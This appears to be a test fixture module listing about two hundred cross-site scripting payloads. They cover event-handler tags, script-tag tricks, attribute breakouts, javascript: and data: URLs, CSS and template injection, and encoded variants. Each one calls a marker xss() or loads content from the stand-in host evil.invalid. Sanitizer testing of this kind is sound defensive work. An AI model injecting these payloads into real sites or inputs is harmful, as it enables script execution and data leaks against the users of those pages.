// Two hundred texts that try to run something in whoever's page shows them: each calls `xss()`, or
// asks another host for something, where a page takes it for markup, a script or an address.

const call = 'xss()';
/** Nobody is there; a request to it is a leak. */
export const elsewhere = 'https://evil.invalid';

const handlers = [
  `<img src=x onerror=${call}>`, `<img/src=x/onerror=${call}>`, `<IMG SRC=x ONERROR="${call}">`, `<img src=x onerror='${call}'`,
  `<image src=x onerror=${call}>`, `<img srcset=x onerror=${call}>`, `<img src=data:image/svg+xml,<svg/> onload=${call} onerror=${call}>`, `<svg onload=${call}>`,
  `<svg/onload=${call}//`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><image href=x onerror=${call}>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${call}>#x">`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`, `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`, `<math href="javascript:${call}">click</math>`, `<body onload=${call}>`, `<body onpageshow=${call}>`,
  `<details open ontoggle=${call}>`, `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<textarea autofocus onfocus=${call}>`,
  `<button autofocus onfocus=${call}>`, `<a autofocus tabindex=0 onfocus=${call}>a</a>`, `<div tabindex=0 autofocus onfocus=${call}>`, `<keygen autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`, `<video src=x onerror=${call}>`, `<audio src=x onerror=${call}>`, `<video onloadstart=${call}><source src=x></video>`,
  `<object data=x onerror=${call}>`, `<embed src=x onerror=${call}>`, `<link rel=stylesheet href=x onerror=${call}>`, `<script src=x onerror=${call}></script>`,
  `<iframe onload=${call}></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>">`, `<iframe src="javascript:parent.${call}">`, `<frameset onload=${call}>`,
  `<marquee onstart=${call}>x</marquee>`, `<style onload=${call}></style>`, `<style>@keyframes x{}</style><p style="animation-name:x;animation-duration:1ms" onanimationstart=${call}>`, `<p style="transition:color 1ms" ontransitionend=${call}>`,
  `<dialog open onclose=${call}>`, `<meter onmouseover=${call}>`, `<p onpointerrawupdate=${call}>p`, `<p onmouseover=${call}>p`,
  `<form><button formaction="javascript:${call}">x`, `<form action="javascript:${call}"><input type=submit>`, `<isindex action="javascript:${call}" type=submit>`, `<x contenteditable onblur=${call}>x`,
];

const scripts = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<script\t>${call}</script>`, `<script/x>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`, `</script><script>${call}</script>`, `<script>${call}//`, `<script src=data:text/javascript,${call}></script>`,
  `<script src=${elsewhere}/a.js></script>`, `<script type=module>${call}</script>`, `<script async>${call}</script>`, `<script charset="utf-7">+ADw-script+AD4-${call}</script>`,
  `--><script>${call}</script>`, `]]><script>${call}</script>`, `<![CDATA[<script>${call}</script>]]>`, `<!--><script>${call}</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<title><img src=x onerror=${call}></title>`, `</title><script>${call}</script>`, `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`, `</select><script>${call}</script>`, `</option><script>${call}</script>`, `</button><script>${call}</script>`,
  `</label><script>${call}</script>`, `</legend></fieldset><script>${call}</script>`, `</template><script>${call}</script>`, `<template><script>${call}</script></template>`,
  `<template shadowrootmode=open><script>${call}</script></template>`, `<table><script>${call}</script>`, `<xmp><script>${call}</script></xmp><img src=x onerror=${call}>`, `<plaintext><script>${call}</script>`,
  `<?xml version="1.0"?><script>${call}</script>`, `<?php ?><script>${call}</script>`, `<script>\u2028${call}</script>`, `<script>/*</script><img src=x onerror=${call}>*/`,
];

const breakouts = [
  `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `\`><img src=x onerror=${call}>`, `"><svg onload=${call}>`,
  `'><svg onload=${call}>`, `" onmouseover="${call}" x="`, `' onmouseover='${call}' x='`, `" autofocus onfocus="${call}" x="`,
  `' autofocus onfocus='${call}' x='`, ` onfocus=${call} autofocus `, `x" onerror="${call}`, `x' onerror='${call}`,
  `"/><script>${call}</script>`, `'/><script>${call}</script>`, `" style="background:url(${elsewhere}/a)" x="`, `" src="x" onerror="${call}`,
  `" srcdoc="<script>parent.${call}</script>`, `" formaction="javascript:${call}`, `" href="javascript:${call}`, `" is="x-a" onload="${call}`,
  `\u0001"><img src=x onerror=${call}>`, `\u00a0"><img src=x onerror=${call}>`, `\uff1cscript\uff1e${call}\uff1c/script\uff1e`, `\u202e<script>${call}</script>`,
];

const addresses = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, ` javascript:${call}`, `\tjavascript:${call}`,
  `java\tscript:${call}`, `java\nscript:${call}`, `java\rscript:${call}`, `\u0001javascript:${call}`,
  `javascript\t:${call}`, `javascript:\u00a0${call}`, `javascript:void(${call})`, `javascript://%0a${call}`,
  `javascript://example.com/%0d%0a${call}`, `javascript:/*x*/${call}`, `&#106;avascript:${call}`, `&#x6A;avascript:${call}`,
  `&Tab;javascript:${call}`, `javascript&colon;${call}`, `%6aavascript:${call}`, `jav&#x0A;ascript:${call}`,
  `vbscript:${call}`, `livescript:${call}`, `mocha:${call}`, `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`, `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`, `data:,<script>${call}</script>`,
  `blob:${elsewhere}/x`, `filesystem:${elsewhere}/x`, `view-source:javascript:${call}`, `jar:javascript:${call}!/x`,
  `feed:javascript:${call}`, `about:blank#<script>${call}</script>`, `\\\\evil.invalid\\share`, `intent://x#Intent;scheme=javascript;end`,
];

const styles = [
  `<style>@import url(${elsewhere}/a.css);</style>`, `<style>*{background:url(${elsewhere}/a)}</style>`, `<link rel=stylesheet href=${elsewhere}/a.css>`, `<link rel=preload as=image href=${elsewhere}/a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`, `<base href=${elsewhere}/>`, `<p style="background:url(${elsewhere}/a)">p`, `<p style="width:expression(${call})">p`,
  `<p style="behavior:url(#x)">p`, `<div style="-moz-binding:url(${elsewhere}/a#x)">`, `}*{background:url(${elsewhere}/a)}`, `red;background:url(${elsewhere}/a)`,
  `url("${elsewhere}/a")`, `</style><style>*{background:url(${elsewhere}/a)}</style>`, `<table background=${elsewhere}/a>`, `<img src=${elsewhere}/a>`,
];

const templates = [
  `{{constructor.constructor('${call}')()}}`, `{{{constructor.constructor('${call}')()}}}`, `{{&constructor}}`, `{{__proto__}}{{toString}}`,
  `\${${call}}`, `\${alert(1)}<img src=x onerror=${call}>`, `#{${call}}`, `<%= ${call} %>`,
  `{% raw %}<script>${call}</script>{% endraw %}`, `{{#a}}<script>${call}</script>{{/a}}`, `{{=<% %>=}}<script>${call}</script>`, `<lit-part><img src=x onerror=${call}></lit-part>`,
  `<!--lit-part--><img src=x onerror=${call}><!--/lit-part-->`, `<!--?lit$1$--><img src=x onerror=${call}>`, `<slot name=x onslotchange=${call}>`, `<tundish-player funnel=x server="javascript:${call}">`,
  `<x-a is=x onclick=${call}>`, `[click](javascript:${call})`, `![x](${elsewhere}/a)`, `<${elsewhere}>`,
  `[x]: javascript:${call}`, `**<img src=x onerror=${call}>**`, `\`<script>${call}</script>\``, `@import '${elsewhere}/a.css';`,
];

const entities = [
  `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;img src=x onerror=${call}&#62;`, `&#x3c;svg onload=${call}&#x3e;`, `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`, `\\x3cscript\\x3e${call}\\x3c/script\\x3e`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`, `<a href="&#106;&#97;&#118;&#97;script:${call}">x</a>`,
  `<img src=x onerror="&#120;&#115;&#115;&#40;&#41;">`, `<a href="java&Tab;script:${call}">x</a>`, `<a href=javascript:${call}>x`, `<area href=javascript:${call} shape=default>`,
];

export const vectors = [...handlers, ...scripts, ...breakouts, ...addresses, ...styles, ...templates, ...entities];
